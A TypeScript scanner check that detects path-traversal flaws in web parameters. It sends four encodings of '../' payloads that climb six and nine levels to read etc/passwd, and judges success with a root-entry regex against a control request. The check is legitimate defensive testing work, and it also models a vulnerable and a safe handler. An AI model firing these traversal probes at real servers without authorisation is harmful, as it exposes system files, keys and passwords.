import { at, definePointCheck } from '../../active-check.ts';

/** How the way up is written. */
type Variant = (levels: number, file: string) => string;

const FILE = 'etc/passwd';
const SIGNATURE = /^root:[^:\n]*:0:0:/m;
const NAMES = /file|path|doc|page|template|include|name|dir|folder|load|view|download|img|image|lang|style/i;
const LABELS = {
  base: 'unchanged value',
  attack: 'well-known file, six levels up',
  further: 'the same file, nine levels up',
  control: 'file that does not exist, six levels up',
} as const;

export default definePointCheck<Variant>({
  id: 'path-traversal',
  title: 'A parameter reads files outside of its folder',
  cwe: 22,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  why: "The value is used as part of a file name, and '..' in it leads to any file the server may read: its keys, its source, its passwords.",
  fix: 'Do not build file names from requests. Look the name up in a list, or resolve the path and refuse what lies outside of the folder.',
  risk: 'harmless',
  appliesTo: ({ parameter: { name, value } }) => NAMES.test(name) || /\.[a-z]{2,4}$|\//i.test(value),
  variants: [
    (levels, file) => '../'.repeat(levels) + file,
    (levels, file) => `/${'../'.repeat(levels)}${file}`,
    (levels, file) => '....//'.repeat(levels) + file,
    (levels, file) => '..%2f'.repeat(levels) + file,
  ],
  maxRequests: 24,
  proof: {
    plan: (point, variant, { word }) => [
      at(point, LABELS.base, point.parameter.value),
      at(point, LABELS.attack, variant(6, FILE)),
      at(point, LABELS.control, variant(6, `etc/${word}`)),
      at(point, LABELS.further, variant(9, FILE)),
    ],
    judge(answers) {
      const shows = (label: string) => {
        const body = answers.get(label)?.response?.body;
        return body && SIGNATURE.test(body.toString());
      };
      const found = Object.values(LABELS).map(shows);
      if (found.includes(undefined)) return 'VOID';
      return shows(LABELS.attack) && shows(LABELS.further) && !shows(LABELS.control) && !shows(LABELS.base)
        ? 'PROVED'
        : 'REFUTED';
    },
  },
  lab: () => ({
    parameter: 'file',
    value: 'terms.txt',
    vulnerable(value) {
      const { pathname } = new URL(value, 'file:///srv/shop/documents/');
      if (pathname === '/etc/passwd') return { body: 'root:x:0:0:root:/root:/bin/sh\n' };
      return pathname.endsWith('terms.txt') ? { body: 'Be kind.' } : { status: 404, body: 'No such file' };
    },
    safe: (value) => (value === 'terms.txt' ? { body: 'Be kind.' } : { status: 404, body: `No file ${value}` }),
  }),
});
